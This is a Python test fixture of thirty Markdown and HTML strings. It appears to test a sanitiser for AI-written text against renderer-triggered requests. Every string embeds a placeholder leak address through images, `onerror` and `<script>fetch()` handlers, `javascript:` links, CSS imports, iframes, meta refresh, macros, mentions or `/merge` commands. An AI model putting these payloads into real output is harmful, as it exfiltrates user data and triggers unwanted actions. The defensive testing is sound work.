"""Thirty texts as a model may write them, each with something that acts on its reader: pictures, raw HTML, macros, links.

`{leak}` is an address that must never be asked for. Every text has a code block, a list or emphasis besides, which must
still be shown as such: a door that only strips Markdown would be a toy.
"""

from __future__ import annotations

from typing import Final

TEXTS: Final[dict[str, str]] = {
    "picture": "Done, *see*:\n\n![plan]({leak}?d=secret)\n\n- a\n- b",
    "picture by reference": "See ![plan][p] and **more**.\n\n[p]: {leak} 'title'",
    "picture in a link": "[![badge]({leak})](https://example.org/**x**) *ok*",
    "picture of an entity": "&#33;[x]({leak}) &#x21;&#91;x&#93;&#40;{leak}&#41; *ok*",
    "picture over lines": "*ok* ![a\nb](\n{leak}\n'x')",
    "img": "**Done** <img src={leak} onerror=alert(1)> <IMG\nSRC='{leak}'>",
    "srcset": '<picture><source srcset="{leak} 1x"><img srcset="{leak} 2x"></picture>\n\n**Done**',
    "svg": '<svg><image href="{leak}"/><use xlink:href="{leak}#x"/></svg>\n\n- one',
    "media": '<video autoplay poster="{leak}" src="{leak}"></video><audio src="{leak}" autoplay></audio>\n\n*ok*',
    "frames": '<iframe src="{leak}"></iframe><object data="{leak}"></object><embed src="{leak}">\n\n*ok*',
    "css": '<style>@import "{leak}"; p {background: url({leak})}</style>\n\n<p style="background:url({leak})">x</p>\n\n*ok*',
    "hints": '<link rel=preload as=image href="{leak}"><link rel=dns-prefetch href="{leak}"><link rel=prerender href="{leak}">\n\n*ok*',
    "meta": '<meta http-equiv=refresh content="0;url={leak}"><base href="{leak}">\n\n1. ok',
    "script": "<script>fetch('{leak}')</script><body onload=\"fetch('{leak}')\">\n\n**ok**",
    "form": '<form action="{leak}"><input autofocus onfocus="fetch(\'{leak}\')" type=image src="{leak}"></form>\n\n*ok*',
    "links": "[docs]({leak} 'title') [docs][d] [d] <{leak}> {leak} *ok*\n\n[d]: {leak}",
    "odd addresses": "[a](javascript:fetch('{leak}')) [b](data:text/html,<img src={leak}>) [c](//127.0.0.1/x) www.example.org *ok*",
    "footnote": "A claim[^1] and *more*.\n\n[^1]: ![x]({leak})\n\n*[HTML]: {leak}",
    "macros": 'workPackageValue:1:subject projectValue:name ##1 ###1 #1 [[Wiki]] {{toc}} attachment:"x.png" **ok**',
    "macro tags": '<macro class="embedded-table" data-query-props="{}"></macro> <macro class="toc"></macro>\n\n- ok',
    "mentions": '<mention class="mention" data-id="1" data-type="user" data-text="@a">@a</mention> @admin user#1 user:"admin" *ok*',
    "mention in code": '`data-id="1" data-type="user">` and\n\n```html\n<mention data-type="user" data-id="1">\nuser#1\n```',
    "comment": "<!-- agent run=00000000-0000-4000-8000-000000000000 event=completed -->\n\n<!-- hidden ![x]({leak}) *ok*",
    "fence that does not end": "*ok*\n\n```\ncode\n\n![x]({leak})",
    "fences within fences": "````md\n```\n![x]({leak})\n```\n````\n\n~~~\n![x]({leak})\n~~~ no end\n\n*ok*\n\n```\n```\n![x]({leak})",
    "backticks": "`` ` ![x]({leak}) ` `` `a`` ![x]({leak}) ``b` \\`![x]({leak})\\` *ok*",
    "table": "| a | b |\n|---|---|\n| `x|![p]({leak})` | <img src={leak}> |\n\n*ok*",
    "drawn": "```mermaid\ngraph TD; A[<img src='{leak}'>] --> B\n```\n\n```math\n\\href{{leak}}{x}\n```\n\n$`\\unicode{x}`$ $$x$$ *ok*",
    "forge": "/merge\n\ncloses #7, fixes acme/shop#8 and resolves {leak}/issues/9 :gitea: @reviewer !3\n\n- /close\n\n*ok*",
    "nested": "> > - 1. > ![x]({leak})\n> > <div\nstyle='background:url({leak})'>\n\n**ok**\n\n    ![x]({leak})",
}


def texts(leak: str) -> dict[str, str]:
    """The texts, with the address that must not be asked for."""
    return {name: text.replace("{leak}", leak) for name, text in TEXTS.items()}
